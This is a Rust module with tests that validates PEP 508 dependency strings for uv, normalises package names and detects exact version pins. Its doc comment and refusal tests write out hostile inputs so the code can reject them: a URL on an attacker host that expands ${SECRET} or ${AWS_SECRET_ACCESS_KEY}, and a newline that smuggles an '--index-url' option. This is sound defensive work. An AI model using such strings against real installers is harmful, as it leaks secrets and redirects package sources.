//! One dependency: parsing a PEP 508 string safely, PEP 503 names, exact pins.

use std::str::FromStr;

use pep440_rs::Operator;
use pep508_rs::{Requirement, VersionOrUrl};

use crate::error::{ScriptError, UnsafeReason};

/// Parses one PEP 508 dependency specifier, refusing what would be unsafe to hand to uv.
///
/// Refused before parsing (as [`ScriptError::UnsafeRequirement`]):
/// - `${NAME}`: the PEP 508 parser (and uv) expand it from the *server's* environment when it
///   appears in a URL, so `pkg @ https://attacker/${SECRET}` would send a secret out.
/// - control characters other than tab: a newline inside a marker string would survive into a
///   requirements file as a second line (`--index-url …`).
///
/// # Errors
///
/// [`ScriptError::UnsafeRequirement`] as above, [`ScriptError::InvalidRequirement`] when the
/// string is not a PEP 508 dependency specifier.
pub fn parse_requirement(input: &str) -> Result<Requirement, ScriptError> {
    let unsafe_reason = if input.contains("${") {
        Some(UnsafeReason::EnvironmentVariable)
    } else if input.chars().any(|c| c.is_control() && c != '\t') {
        Some(UnsafeReason::ControlCharacter)
    } else {
        None
    };
    if let Some(reason) = unsafe_reason {
        return Err(ScriptError::UnsafeRequirement {
            requirement: input.to_owned(),
            reason,
        });
    }
    Requirement::from_str(input).map_err(|err| {
        // Not `err.to_string()`: that `Display` draws an underline and asserts on its span.
        let reason = format!("{} (at character {})", err.message, err.start + 1);
        ScriptError::InvalidRequirement {
            requirement: input.to_owned(),
            reason,
        }
    })
}

/// Normalises a distribution name.
///
/// > PEP 503: "the name should be lowercased with all runs of the characters `.`, `-`, or `_`
/// > replaced with a single `-` character", i.e. `re.sub(r"[-_.]+", "-", name).lower()`.
#[must_use]
pub fn normalize_name(name: &str) -> String {
    let mut out = String::with_capacity(name.len());
    let mut in_run = false;
    for c in name.chars() {
        if matches!(c, '-' | '_' | '.') {
            if !in_run {
                out.push('-');
            }
            in_run = true;
        } else {
            out.extend(c.to_lowercase());
            in_run = false;
        }
    }
    out
}

/// True when the requirement pins one exact version: it has a `==` specifier without a wildcard
/// (`numpy==2.1.3`, `torch==2.4.0+cpu`, `a==1.0; python_version < "3.12"`).
///
/// False for ranges, `==1.*`, `===` (arbitrary equality), no version at all, and URLs (whose
/// content can change behind the same string). Only the requirement itself is pinned: its own
/// dependencies still resolve, so a cache keyed on pinned requirements is fresh as long as
/// those resolve the same way.
#[must_use]
pub fn is_exact_pin(req: &Requirement) -> bool {
    match &req.version_or_url {
        Some(VersionOrUrl::VersionSpecifier(specifiers)) => specifiers
            .iter()
            .any(|specifier| *specifier.operator() == Operator::Equal),
        Some(VersionOrUrl::Url(_)) | None => false,
    }
}

#[cfg(test)]
mod tests {
    use assert_matches::assert_matches;

    use super::*;

    macro_rules! normalized {
        ($($name:ident: $input:expr => $expected:expr;)*) => {$(
            #[test]
            fn $name() {
                assert_eq!(normalize_name($input), $expected);
            }
        )*};
    }

    normalized! {
        normalize_underscore: "Foo_Bar" => "foo-bar";
        normalize_dot: "foo.bar" => "foo-bar";
        normalize_dash: "foo-bar" => "foo-bar";
        normalize_runs: "Foo.-_Bar" => "foo-bar";
        normalize_upper: "PyYAML" => "pyyaml";
        normalize_leading_and_trailing: "_foo_" => "-foo-";
    }

    macro_rules! pinned {
        ($($name:ident: $input:expr => $expected:expr;)*) => {$(
            #[test]
            fn $name() {
                let req = parse_requirement($input).unwrap();
                assert_eq!(is_exact_pin(&req), $expected, "{}", $input);
            }
        )*};
    }

    pinned! {
        pin_exact: "numpy==2.1.3" => true;
        pin_exact_with_spaces: "numpy == 2.1.3" => true;
        pin_local_version: "torch==2.4.0+cpu" => true;
        pin_with_marker: "a==1.0; python_version < '3.12'" => true;
        pin_with_extras: "requests[socks]==2.31.0" => true;
        pin_wildcard: "numpy==2.*" => false;
        pin_range: "numpy>=2" => false;
        pin_compatible: "numpy~=2.1" => false;
        pin_arbitrary_equality: "numpy===2.1.3" => false;
        pin_bare_name: "numpy" => false;
        pin_url: "pkg @ https://example.invalid/pkg-1.0.tar.gz" => false;
    }

    macro_rules! refused {
        ($($name:ident: $input:expr => $pattern:pat,)*) => {$(
            #[test]
            fn $name() {
                assert_matches!(parse_requirement($input), Err($pattern));
            }
        )*};
    }

    refused! {
        refuse_env_var_in_url: "pkg @ https://example.invalid/${AWS_SECRET_ACCESS_KEY}"
            => ScriptError::UnsafeRequirement { reason: UnsafeReason::EnvironmentVariable, .. },
        refuse_newline_in_marker: "a; platform_machine == 'x\n--index-url http://x'"
            => ScriptError::UnsafeRequirement { reason: UnsafeReason::ControlCharacter, .. },
        refuse_nul: "a\0" => ScriptError::UnsafeRequirement { .. },
        refuse_option: "--index-url=http://x" => ScriptError::InvalidRequirement { .. },
        refuse_editable: "-e ." => ScriptError::InvalidRequirement { .. },
        refuse_empty: "" => ScriptError::InvalidRequirement { .. },
    }

    #[test]
    fn tab_is_whitespace() {
        let req = parse_requirement("numpy\t>=2").unwrap();
        assert_eq!(req.to_string(), "numpy>=2");
    }
}
